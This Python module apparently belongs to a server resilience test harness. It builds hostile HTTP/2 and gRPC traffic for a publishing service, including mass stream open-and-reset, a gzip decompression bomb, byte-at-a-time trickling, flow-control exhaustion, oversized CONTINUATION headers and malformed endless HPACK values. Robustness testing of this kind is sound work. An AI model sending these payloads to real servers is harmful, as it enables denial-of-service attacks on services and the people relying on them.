"""What an attacker sends: openings as bytes, and bodies, which are asked for bytes again and again.

A body has next(windows): the bytes to send now, or None while there is nothing to send; after them
the sender pauses for `every_s`. With `windowed` it honours the server's flow control, so gRPC core
has no reason to end it. `unit_bytes` is the size of what the table's bound counts."""
import collections
import functools
import struct
import zlib

from ..h2frames import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    literal,
    message,
)

PRIORITY, PUSH_PROMISE, UNKNOWN = 2, 5, 0x55
PUBLISH = b"/tributary.v1.Publisher/PublishStream"
BLOCK_BYTES = 256 * 1024  # of what is sent at once


class Windows:
    """What the server allows to be sent, in bytes of DATA."""

    def __init__(self):
        self.connection = self.initial = 65535
        self.largest_frame = 16384
        self.streams = collections.Counter()  # more, or less, than `initial`

    def left(self, stream):
        return min(self.connection, self.initial + self.streams[stream])

    def use(self, stream, size):
        self.connection -= size
        self.streams[stream] -= size


class Repeat:
    """A unit of bytes, `count` times or without end. `flow` bytes of it count for the windows of
    stream 1."""
    every_s = 0.0

    def __init__(self, unit, count=None, flow=0):
        self.unit_bytes, self.flow = len(unit), flow
        self.windowed = flow > 0
        self._left = count
        self._block = unit * max(1, BLOCK_BYTES // max(1, len(unit)))

    def next(self, windows):
        units = len(self._block) // max(1, self.unit_bytes)
        if self._left is not None:
            units = min(units, self._left)
        if self.flow:
            units = min(units, windows.left(1) // self.flow)
            windows.use(1, max(0, units) * self.flow)
        if units <= 0:
            return None
        if self._left is not None:
            self._left -= units
        return memoryview(self._block)[:units * self.unit_bytes]


class Series:
    """Prebuilt bytes that are sent once."""
    windowed, every_s = False, 0.0

    def __init__(self, build, unit_bytes):
        self._bytes, self.unit_bytes = build(), unit_bytes

    def next(self, windows):
        data, self._bytes = self._bytes, None
        return data


class Trickle:
    """One byte of `data` every half second."""
    windowed, every_s, unit_bytes = False, 0.5, 1

    def __init__(self, data):
        self._bytes = data

    def next(self, windows):
        data, self._bytes = self._bytes[:1], self._bytes[1:]
        return data or None


class Fill:
    """Messages that declare `declared` bytes, one on each of the streams 1, 3, 5 and so on; `size`
    bytes of each are sent, in turns, as the windows allow."""
    windowed, every_s, unit_bytes = True, 0.0, 1

    def __init__(self, streams, declared, size):
        self._prefix = struct.pack(">BI", 0, declared)
        self._zeros = bytes(1 << 18)
        self._size = size
        self._waiting = collections.deque((2 * n + 1, 0) for n in range(streams))

    def next(self, windows):
        for _ in range(len(self._waiting) if windows.connection > 0 else 0):
            stream, sent = self._waiting.popleft()
            size = min(self._size - sent, windows.left(stream), windows.largest_frame)
            if size <= (len(self._prefix) if sent == 0 else 0):
                self._waiting.append((stream, sent))
                continue
            windows.use(stream, size)
            body = self._zeros[:size] if sent else self._prefix + self._zeros[:size - len(self._prefix)]
            if sent + size < self._size:
                self._waiting.append((stream, sent + size))
            return frame(DATA, 0, stream, body)
        return None


class Beside:
    """A publishing stream that goes on, and in its middle one other call whose headers are large.
    The sender counts the answers on stream 1."""
    windowed, every_s = True, 0.1

    def __init__(self, header_bytes):
        self.unit_bytes = 1
        self._healthy = frame(DATA, 0, 1, message(published(b"healthy")))
        self._rest = collections.deque(
            [self._healthy] * 3 + [header_block(3, request_block(extra=((b"x-large", b"a" * header_bytes),)))]
        )

    def next(self, windows):
        return self._rest.popleft() if self._rest else self._healthy


def published(producer):
    """A PublishStreamRequest with one event of one byte, which asks for its confirmation."""
    return b"\x0a\x03\x42\x01x\x12" + bytes([len(producer)]) + producer


def request_block(extra=(), path=PUBLISH):
    """The header block of a gRPC request."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"test"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        *extra,
    )
    return b"".join(literal(name, value) for name, value in fields)


def header_block(stream, block, largest=16384):
    """HEADERS, and CONTINUATION where the block needs it."""
    parts = [block[at:at + largest] for at in range(0, len(block), largest)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if n else HEADERS, END_HEADERS if n == last else 0, stream, part)
        for n, part in enumerate(parts)
    )


def open_streams(count, extra=()):
    block = request_block(extra)
    return b"".join(header_block(2 * n + 1, block) for n in range(count))


def setting(identifier, value):
    return struct.pack(">HI", identifier, value)


def increment(stream, size=1):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def reset(stream, error=CANCEL):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", error))


def indexed_request():
    """(block that fills the dynamic table, block of one byte for each header that refers to it)"""
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", PUBLISH), (b":authority", b"test"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc"),
    )
    block = b"".join(b"\x40" + literal(*field)[1:] for field in fields)
    # The table of HPACK: 61 entries that are fixed, then the newest first.
    return block, bytes(0x80 | 62 + n for n in reversed(range(len(fields))))


RESET_UNIT_BYTES = 9 + 6 + 13


@functools.lru_cache(1)
def opened_and_reset(count=260000):
    """So many streams, from stream 3 on, each opened and reset at once, with indexed headers."""
    block = indexed_request()[1]
    head = frame(HEADERS, END_HEADERS, 0, block)[:5]
    unit = struct.Struct(f">5sI{len(block)}s9s4s")
    rest = struct.pack(">I", 4)[1:] + bytes([RST_STREAM, 0])
    error = struct.pack(">I", CANCEL)
    return b"".join(
        unit.pack(head, stream, block, rest + struct.pack(">I", stream), error)
        for stream in range(3, 2 * count + 3, 2)
    )


def reset_opening():
    return header_block(1, indexed_request()[0]) + reset(1)


@functools.lru_cache(1)
def compressed_bomb(size=1 << 30):
    """`size` zeros as one gzip message of a megabyte."""
    part = bytes(1 << 22)
    packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone, so it may be repeated
    check = 0
    for _ in range(size // len(part)):
        check = zlib.crc32(part, check)
    packed = (
        b"\x1f\x8b\x08" + bytes(7) + block * (size // len(part)) + packer.flush()
        + struct.pack("<II", check, size & 0xFFFFFFFF)
    )
    body = message(packed, compressed=1)
    return b"".join(frame(DATA, 0, 1, body[at:at + 16384]) for at in range(0, len(body), 16384))


ACKNOWLEDGE = frame(SETTINGS, ACK)
HELLO = PREFACE + frame(SETTINGS)
EMPTY_MESSAGE = bytes(5)
TINY_MESSAGE = message(b"\x0a\x03\x42\x01x")
PING_FRAME = frame(PING, 0, 0, b"12345678")
GOAWAY_FRAME = frame(GOAWAY, 0, 0, bytes(8))
PRIORITY_FRAME = frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")
PUSH_FRAME = frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\x02")
# The name of a header that is never indexed, and a value of 2^28 bytes that never ends.
ENDLESS_HEADER = literal(b"x", b"")[:-1] + b"\x7f\x81\xff\xff\x7f"
# An integer of HPACK that goes on and on.
PADDED_INTEGER = b"\x1f" + b"\x80" * 16000
